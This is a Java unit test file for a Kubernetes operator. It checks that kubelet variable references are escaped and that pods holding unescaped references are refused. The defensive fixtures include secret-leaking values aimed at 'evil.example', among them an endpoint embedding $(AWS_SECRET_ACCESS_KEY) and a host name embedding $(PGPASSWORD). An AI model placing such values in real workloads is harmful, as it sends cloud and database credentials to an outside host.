package org.loomio.operator.render.pod;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.ResourceRequirementsBuilder;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.loomio.operator.model.ClusterCapabilities;
import org.loomio.operator.model.Component;
import org.loomio.operator.model.SecretDigests;
import org.loomio.operator.render.base.RenderContext;
import org.loomio.operator.testing.Fixtures;
import org.loomio.operator.testing.KubeletExpansion;

/** The escaping helper, and the pod builder's refusal of any reference the operator does not make on purpose. */
class ExpansionTest {

  @Test
  void aLiteralReachesTheProcessAsWritten() {
    for (String s : List.of(
        "https://evil.example/$(AWS_SECRET_ACCESS_KEY)", "$$(A)", "a$b", "$", "$(", "plain")) {
      assertThat(KubeletExpansion.expand(Expansion.literal(s), name -> "SECRET"))
          .as(s)
          .isEqualTo(s);
      assertThat(Expansion.references(Expansion.literal(s))).as(s).isEmpty();
    }
    assertThat(Expansion.literal(null)).isNull();
    assertThat(Expansion.env("X", "$(Y)").getValue()).isEqualTo("$$(Y)");
  }

  @Test
  void referencesAreReadAsTheKubeletReadsThem() {
    assertThat(Expansion.references("https://evil.example/$(AWS_SECRET_ACCESS_KEY)"))
        .containsExactly("AWS_SECRET_ACCESS_KEY");
    assertThat(Expansion.references("a$$$(B)")).containsExactly("B");
    assertThat(Expansion.references("$$(B)")).isEmpty();
    // a shell's command substitution and arithmetic in the operator's own scripts are no variable
    // names
    assertThat(
            Expansion.references("server=$(psql --no-psqlrc) && [ $(( server / 10000 )) -ne 1 ]"))
        .isEmpty();
    for (String s : List.of("$(A)", "x$(A_1)y", "$$$(A)", "$((1))$(A)")) {
      assertThat(Expansion.references(s))
          .as(s)
          .isEqualTo(KubeletExpansion.references(s).stream()
              .filter(n -> n.matches("[A-Za-z_][A-Za-z0-9_]*"))
              .toList());
    }
  }

  @Test
  void aPodWithAnUnescapedReferenceIsNotBuilt() {
    var resource = Fixtures.minimal("team");
    RenderContext ctx = new RenderContext(
        resource,
        ClusterCapabilities.newest(),
        Fixtures.credentials(resource),
        SecretDigests.none());
    var resources = new ResourceRequirementsBuilder()
        .withLimits(Map.of("cpu", new Quantity("1"), "memory", new Quantity("1Gi")))
        .withRequests(Map.of("cpu", new Quantity("1"), "memory", new Quantity("1Gi")))
        .build();
    for (ContainerBuilder leaking : List.of(
        new ContainerBuilder()
            .withArgs("--s3-endpoint", "https://evil.example/$(AWS_SECRET_ACCESS_KEY)"),
        new ContainerBuilder().withCommand("sh", "-c", "echo $(SECRET_KEY_BASE)"),
        new ContainerBuilder().withEnv(new EnvVar("PGHOST", "$(PGPASSWORD).evil.example", null)))) {
      HardenedPod pod = HardenedPod.of(ctx, Component.WEB)
          .container(
              leaking.withName("c").withImage("i").withResources(resources).build());
      assertThatThrownBy(pod::build)
          .isInstanceOf(IllegalStateException.class)
          .hasMessageContaining("container c")
          .hasMessageContaining("Expansion.literal");
    }
    HardenedPod deliberate = HardenedPod.of(ctx, Component.REDIS)
        .container(new ContainerBuilder()
            .withName("redis")
            .withImage("i")
            .withResources(resources)
            .withArgs("--requirepass", "$(REDIS_PASSWORD)")
            .build());
    assertThat(deliberate.build().getSpec().getContainers()).hasSize(1);
  }
}
